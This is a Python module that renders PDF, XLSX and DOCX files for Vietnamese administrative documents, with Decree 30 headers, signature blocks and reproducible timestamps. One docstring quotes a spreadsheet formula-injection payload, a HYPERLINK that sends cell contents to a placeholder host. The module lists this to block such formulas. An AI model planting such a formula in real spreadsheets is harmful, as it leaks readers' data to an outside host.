"""Turn plain data into file bytes: PDF with Typst, XLSX with openpyxl, DOCX with python-docx.

Renderers are pure: the same data gives the same bytes. The only moving part of a file is
its creation date, which the pipeline fixes to the moment the user asked for the document
(:func:`document_timestamp`), so running a job again writes an identical file.
"""

import io
import json
import re
import threading
import zipfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager
from contextvars import ContextVar
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import typst
from django.conf import settings
from django.core.serializers.json import DjangoJSONEncoder
from django.utils import timezone
from django.utils.translation import gettext as _

from documents.fonts import check_printable, font_dir, font_files
from documents.fonts import text_width_mm as measure_mm
from documents.registry import RenderError
from documents.vietnamese import nfc_data

_timestamp: ContextVar[datetime | None] = ContextVar("document_timestamp", default=None)


@contextmanager
def document_timestamp(when: datetime):
    """Files rendered inside this block carry ``when`` as their creation date."""
    token = _timestamp.set(when)
    try:
        yield
    finally:
        _timestamp.reset(token)


def _now() -> datetime:
    when = _timestamp.get() or timezone.now()
    return when.astimezone(UTC).replace(microsecond=0)


# --------------------------------------------------------------------------- PDF (Typst)


def template_dir() -> Path:
    return Path(settings.DOCUMENTS_TEMPLATE_DIR)


_compilers = threading.local()


def _compiler() -> typst.Compiler:
    """One compiler per thread: it loads the fonts once (about 10 ms) for every later job."""
    key = (str(template_dir()), str(font_dir()), tuple(settings.DOCUMENTS_FONT_FILES))
    cached = getattr(_compilers, "value", None)
    if cached is None or cached[0] != key:
        font_files()
        # Only the fonts folder: no system fonts (an old Liberation 1.07 without Vietnamese
        # has the same family name) and none of Typst's embedded fonts.
        fonts = typst.Fonts(
            include_system_fonts=False, include_embedded_fonts=False, font_paths=[str(font_dir())]
        )
        compiler = typst.Compiler(
            root=str(template_dir()), font_paths=fonts, ignore_system_fonts=True
        )
        _compilers.value = cached = (key, compiler)
    return cached[1]


def typst_pdf(template: str, data: dict) -> bytes:
    """Compile ``templates/documents/<template>`` with ``data`` as its input.

    The template reads the data with ``#let data = json(bytes(sys.inputs.data))`` and may
    import the shared components with ``#import "/common/header.typ": *``. Text is
    NFC-normalised; a character the fonts lack, a missing font or a template error raise
    RenderError, so no PDF with empty boxes or a fallback font is ever produced.
    """
    path = template_dir() / template
    if not path.is_file():
        raise RenderError(
            _("Không tìm thấy mẫu văn bản %(template)s. Báo quản trị viên.")
            % {"template": template}
        )
    data = nfc_data(data)
    check_printable(data)
    font_files()
    payload = json.dumps(data, cls=DjangoJSONEncoder, ensure_ascii=False)
    try:
        # The input is passed on every call: typst-py's Compiler fails on a second compile()
        # that relies on the input given at construction.
        pdf, warnings = _compiler().compile_with_warnings(
            input=str(path),
            format="pdf",
            sys_inputs={"data": payload},
            timestamp=_now(),
            # Untagged: tags made a 5,000-row list 16 times larger (4.3 MB against 260 KB)
            # and 50 % slower, for files that are printed and signed.
            pdf_tags=False,
        )
    except typst.TypstError as exc:
        raise RenderError(
            _("Mẫu văn bản %(template)s có lỗi: %(message)s. Báo quản trị viên.")
            % {"template": template, "message": exc.message}
        ) from exc
    for warning in warnings:
        if "font" in warning.message or "glyph" in warning.message:
            raise RenderError(
                _("Mẫu văn bản %(template)s dùng phông chữ không có: %(message)s.")
                % {"template": template, "message": warning.message}
            )
    return pdf


# --------------------------------------------------------------------------- ZIP-based formats


def _fixed_zip(content: bytes) -> bytes:
    """Rewrite an OOXML package with fixed entry dates, so equal content gives equal bytes."""
    stamp = _now().timetuple()[:6]
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            info = zipfile.ZipInfo(item.filename, date_time=stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = item.external_attr
            target.writestr(info, source.read(item.filename))
    return out.getvalue()


# --------------------------------------------------------------------------- XLSX

# Column formats (``Sheet.formats``). Excel files store number formats in an invariant
# notation: "#,##0" groups thousands with the reader's separator, so a Vietnamese Excel or
# LibreOffice shows 1.404.000. Codes and years print without grouping.
TEXT = ""
CODE = "0"
NUMBER = "#,##0"


class _Sum:
    """A cell that adds up its column: in a row, the rows since the previous such row (a
    group's subtotal); in the footer, the whole list. Written as a formula Excel recomputes."""

    def __repr__(self) -> str:
        return "SUM"


SUM = _Sum()

# Figures as lists built for print carry them ("1.404.000", "1985"): in a number column they
# are stored as numbers, so the sheet can be summed.
_FIGURE = re.compile(r"-?(?:\d{1,3}(?:\.\d{3})+|\d+)")


@dataclass
class Sheet:
    """One worksheet: heading lines, a header row, and the rows (any iterable: a generator
    keeps a long list out of memory, as the workbook is written in write-only mode).

    ``title`` is the tab's name, at most 31 characters (Excel's limit: a longer one is an
    error, never cut). ``formats`` gives each column's number format (TEXT, CODE, NUMBER);
    ``landscape`` turns the printed page."""

    rows: Iterable[Sequence]
    headers: Sequence[str] = ()
    title: str = "Danh sách"
    heading: Sequence[str] = ()
    widths: Sequence[float] = ()
    footer: Sequence[Sequence] = field(default_factory=list)
    formats: Sequence[str] = ()
    landscape: bool = False


# Text that Excel, LibreOffice or a CSV import would read as a formula if it began a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell):
    """The cell, written as text (never a formula) when its text begins like one.

    openpyxl turns a string starting with "=" into a live formula: a scheme named
    =HYPERLINK("http://x/?leak="&A1, …) would run in the reader's Excel. quotePrefix also keeps
    Excel from reading the text as a formula when someone edits the cell."""
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx(
    rows: Iterable[Sequence] | None = None,
    *,
    headers: Sequence[str] = (),
    title: str = "Danh sách",
    heading: Sequence[str] = (),
    widths: Sequence[float] = (),
    footer: Sequence[Sequence] = (),
    formats: Sequence[str] = (),
    landscape: bool = False,
    sheets: Sequence[Sheet] = (),
    progress: Callable[[int], None] | None = None,
) -> bytes:
    """An Excel workbook from rows: ``xlsx(rows, headers=[...])`` for one sheet, or
    ``xlsx(sheets=[Sheet(...), ...])``. ``progress(n)`` is called every 500 rows.

    Every sheet is ready to print: A4, fitted to the page width, the header row frozen on
    screen and repeated on every printed page."""
    from openpyxl import Workbook

    if rows is not None:
        sheet = Sheet(rows, headers, title, heading, widths, list(footer), formats, landscape)
        sheets = [sheet, *sheets]
    workbook = Workbook(write_only=True)
    workbook.properties.creator = "ngayhoi"
    workbook.properties.created = workbook.properties.modified = _now().replace(tzinfo=None)
    written = 0
    for sheet in sheets:
        for _count in _write_sheet(workbook, sheet):
            written += 1
            if progress is not None and written % 500 == 0:
                progress(written)
    from openpyxl.writer.excel import ExcelWriter

    if not workbook.worksheets:
        workbook.create_sheet()
    out = io.BytesIO()
    # Not workbook.save(): it stamps the file "modified" with the wall clock, so a job run
    # again a second later wrote different bytes. ExcelWriter keeps the document's timestamp.
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as archive:
        ExcelWriter(workbook, archive).save()
    return _fixed_zip(out.getvalue())


def _write_sheet(workbook, sheet: Sheet) -> Iterator[None]:
    """Write one sheet, yielding once per body row (for progress)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font

    bold = Font(name="Times New Roman", bold=True)
    plain = Font(name="Times New Roman")
    centred = Alignment(horizontal="center", vertical="center", wrap_text=True)
    wrapped = Alignment(vertical="top", wrap_text=True)
    worksheet = workbook.create_sheet(_sheet_title(sheet.title))
    for index, width in enumerate(sheet.widths):
        worksheet.column_dimensions[_column_letter(index)].width = width

    def cell(value, font, fmt=TEXT, alignment=None):
        if fmt and isinstance(value, str) and _FIGURE.fullmatch(value):
            value = int(value.replace(".", ""))
        elif fmt and value == "":
            value = None
        made = WriteOnlyCell(worksheet, value=nfc_data(value))
        made.font = font
        if fmt:
            made.number_format = fmt
        if alignment is not None:
            made.alignment = alignment
        return made if isinstance(value, Formula) else as_text(made)

    def fmt(column: int) -> str:
        return sheet.formats[column] if column < len(sheet.formats) else TEXT

    # The sheet's properties and view are written before its first row (write-only mode).
    header_row = len(sheet.heading) + (1 if sheet.heading else 0) + 1
    setup = worksheet.page_setup
    setup.paperSize = 9  # A4 in OOXML's paper numbering
    setup.orientation = "landscape" if sheet.landscape else "portrait"
    setup.fitToWidth, setup.fitToHeight = 1, 0
    worksheet.sheet_properties.pageSetUpPr.fitToPage = True
    if sheet.headers:
        # On screen the header stays put; on paper it heads every page.
        worksheet.freeze_panes = f"A{header_row + 1}"
        worksheet.print_title_rows = f"{header_row}:{header_row}"

    for line in sheet.heading:
        worksheet.append([cell(line, bold)])
    if sheet.heading:
        worksheet.append([])
    if sheet.headers:
        worksheet.append([cell(h, bold, alignment=centred) for h in sheet.headers])
    first = group = number = header_row + 1 if sheet.headers else header_row
    grouped = False
    for row in sheet.rows:
        values = [
            _sum(column, group, number - 1) if v is SUM else v for column, v in enumerate(row)
        ]
        if any(value is SUM for value in row):
            grouped, group = True, number + 1
        worksheet.append(
            [cell(value, plain, fmt(column), wrapped) for column, value in enumerate(values)]
        )
        number += 1
        yield
    for row in sheet.footer:
        values = [
            _sum(column, first, number - 1, nested=grouped) if v is SUM else v
            for column, v in enumerate(row)
        ]
        worksheet.append([cell(value, bold, fmt(column)) for column, value in enumerate(values)])


class Formula(str):
    """A formula the renderer writes itself (a column's sum): any other text that begins like
    one is data, written as text (:func:`as_text`)."""


def _sum(column: int, first: int, last: int, *, nested: bool = True) -> Formula:
    """A column's sum over rows ``first``..``last``. SUBTOTAL(9, …) where the range holds
    group subtotals, which it leaves out, so nothing is counted twice."""
    letter = _column_letter(column)
    cells = f"{letter}{first}:{letter}{max(first, last)}"
    return Formula(f"=SUBTOTAL(9,{cells})" if nested else f"=SUM({cells})")


def _sheet_title(title: str) -> str:
    # Excel refuses these characters and titles longer than 31 characters.
    cleaned = "".join(" " if ch in "[]:*?/\\" else ch for ch in nfc_data(title))
    if len(cleaned) > 31:
        raise ValueError(f"Sheet title longer than Excel's 31 characters: {cleaned!r}")
    return cleaned or "Sheet"


def _column_letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


# --------------------------------------------------------------------------- DOCX


# Decree 30 margins (mm), the same in portrait and landscape: top and bottom 20-25, left
# 30-35 (the binding edge), right 15-20.
MARGINS_MM = {"top": 20, "bottom": 20, "left": 30, "right": 15}
MOTTO = "Độc lập - Tự do - Hạnh phúc"
NATIONAL_NAME = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"


def docx(build: Callable, *, template: str | None = None, landscape: bool = False) -> bytes:
    """A Word document: ``build(document)`` adds the content to a python-docx Document set up
    for Decree 30 (A4 in either orientation, its margins, Times New Roman 13 pt).
    ``template`` is an optional .docx under templates/documents/ to start from.
    :func:`docx_national_header` adds the header block.
    """
    from docx import Document
    from docx.enum.section import WD_ORIENT
    from docx.oxml.ns import qn
    from docx.shared import Mm, Pt

    document = Document(str(template_dir() / template) if template else None)
    for section in document.sections:
        if landscape:
            section.orientation = WD_ORIENT.LANDSCAPE
            section.page_width, section.page_height = Mm(297), Mm(210)
        else:
            section.page_width, section.page_height = Mm(210), Mm(297)
        section.top_margin, section.bottom_margin = Mm(MARGINS_MM["top"]), Mm(MARGINS_MM["bottom"])
        section.left_margin, section.right_margin = Mm(MARGINS_MM["left"]), Mm(MARGINS_MM["right"])
    style = document.styles["Normal"]
    # Officials edit these in Word, which has Times New Roman; Liberation Serif matches it.
    style.font.name = "Times New Roman"
    style.font.size = Pt(13)
    style.element.rPr.rFonts.set(qn("w:eastAsia"), "Times New Roman")
    build(document)
    properties = document.core_properties
    properties.author = properties.last_modified_by = "ngayhoi"
    properties.created = properties.modified = _now().replace(tzinfo=None)
    properties.revision = 1
    out = io.BytesIO()
    document.save(out)
    return _fixed_zip(out.getvalue())


def docx_text_width_mm(document) -> float:
    """The width between the margins of the document's last section."""
    section = document.sections[-1]
    return (section.page_width - section.left_margin - section.right_margin) / 36000


def docx_fixed_table(document, widths_mm: Sequence[float], rows: int = 1):
    """A borderless table whose columns are exactly ``widths_mm`` wide: the grid, each cell
    and a fixed layout all say the same, so Word and LibreOffice lay it out alike."""
    from docx.shared import Mm

    table = document.add_table(rows=rows, cols=len(widths_mm))
    table.autofit = False
    for column, width in zip(table._tbl.tblGrid.gridCol_lst, widths_mm, strict=True):
        column.w = Mm(width)
    for row in table.rows:
        for cell, width in zip(row.cells, widths_mm, strict=True):
            cell.width = Mm(width)
    return table


def _lines(value) -> list[str]:
    return [value] if isinstance(value, str) else list(value)


def docx_national_header(
    document,
    *,
    authority: str | Sequence[str],
    sub_authority: str | Sequence[str] = "",
    number: str = "",
    place: str = "",
    date: str = "",
) -> None:
    """The Decree 30 header block as a borderless two-column table. ``authority`` and
    ``sub_authority`` are a string or a list of lines ("Ủy ban nhân dân", "phường Cửa Ông")."""
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    from docx.shared import Mm, Pt

    # The right column holds the Quốc hiệu on one line, with Word's 1.9 mm cell padding
    # either side and room for a wider substitute font; the authority takes the rest.
    right_mm = round(measure_mm(NATIONAL_NAME, 12, bold=True) + 2 * 1.9 + 4)
    left_mm = docx_text_width_mm(document) - right_mm
    table = docx_fixed_table(document, (left_mm, right_mm), rows=2)
    left, right = table.rows[0].cells
    number_cell, date_cell = table.rows[1].cells

    def line(cell, text, *, bold=False, italic=False, size=13, first=False):
        paragraph = cell.paragraphs[0] if first else cell.add_paragraph()
        paragraph.alignment = WD_ALIGN_PARAGRAPH.CENTER
        paragraph.paragraph_format.space_after = Pt(0)
        run = paragraph.add_run(nfc_data(text))
        run.bold, run.italic, run.font.size = bold, italic, Pt(size)

    def rule(cell, cell_mm: float, length_mm: float):
        """The short line under the authority and under the motto: the bottom border of an
        empty paragraph, indented so the border is ``length_mm`` long, centred."""
        paragraph = cell.add_paragraph()
        paragraph.paragraph_format.space_after = Pt(0)
        indent = Mm((cell_mm - 2 * 1.9 - length_mm) / 2)
        paragraph.paragraph_format.left_indent = paragraph.paragraph_format.right_indent = indent
        paragraph.add_run("").font.size = Pt(2)
        borders = OxmlElement("w:pBdr")
        bottom = OxmlElement("w:bottom")
        for name, value in (("val", "single"), ("sz", "6"), ("space", "1"), ("color", "000000")):
            bottom.set(qn(f"w:{name}"), value)
        borders.append(bottom)
        paragraph._p.get_or_add_pPr().append(borders)

    superior = [text.upper() for text in _lines(sub_authority) if text]
    issuer = [text.upper() for text in _lines(authority)]
    for index, text in enumerate(superior):
        line(left, text, first=index == 0)
    for index, text in enumerate(issuer):
        line(left, text, bold=True, first=not superior and index == 0)
    # Under the issuing body a rule 40 % of its longest line (Decree 30: a third to a half),
    # as the PDF header draws it; under the motto one exactly as long as the motto.
    rule(left, left_mm, 0.4 * max(measure_mm(text, 13, bold=True) for text in issuer))
    line(right, NATIONAL_NAME, bold=True, size=12, first=True)
    line(right, MOTTO, bold=True, size=13)
    rule(right, right_mm, measure_mm(MOTTO, 13, bold=True))
    line(number_cell, f"Số: {number}" if number else "", first=True)
    when = date or "ngày ... tháng ... năm ..."
    line(date_cell, f"{place}, {when}" if place else when, italic=True, first=True)


def docx_signature(document, signature: dict, recipients: Sequence[str] | None = None) -> None:
    """The foot of a signed document, as ``common/signature.typ`` draws it in PDFs: "Nơi nhận:"
    and its lines on the left; the capacity and title lines, room for the seal and signature,
    and the signer's name on the right. ``signature`` is ``{"lines": [...], "name": "..."}``."""
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.oxml import OxmlElement
    from docx.shared import Pt

    half = docx_text_width_mm(document) / 2
    table = docx_fixed_table(document, (half, half))
    # The block moves to the next page whole rather than leave the name behind.
    table.rows[0]._tr.get_or_add_trPr().append(OxmlElement("w:cantSplit"))
    left, right = table.rows[0].cells

    def line(cell, text, *, first, bold=False, italic=False, size=14, centre=False):
        paragraph = cell.paragraphs[0] if first else cell.add_paragraph()
        paragraph.paragraph_format.space_after = Pt(0)
        if centre:
            paragraph.alignment = WD_ALIGN_PARAGRAPH.CENTER
        run = paragraph.add_run(nfc_data(text))
        run.bold, run.italic, run.font.size = bold, italic, Pt(size)
        return paragraph

    if recipients:
        line(left, "Nơi nhận:", first=True, bold=True, italic=True, size=12)
        for text in recipients:
            line(left, f"- {text}", first=False, size=11)
    for index, text in enumerate(signature["lines"]):
        line(right, text.upper(), first=index == 0, bold=True, centre=True)
    # Room for the signature and the seal, some 25 mm.
    line(right, "", first=False, centre=True).paragraph_format.space_after = Pt(64)
    line(right, signature["name"], first=False, bold=True, centre=True)
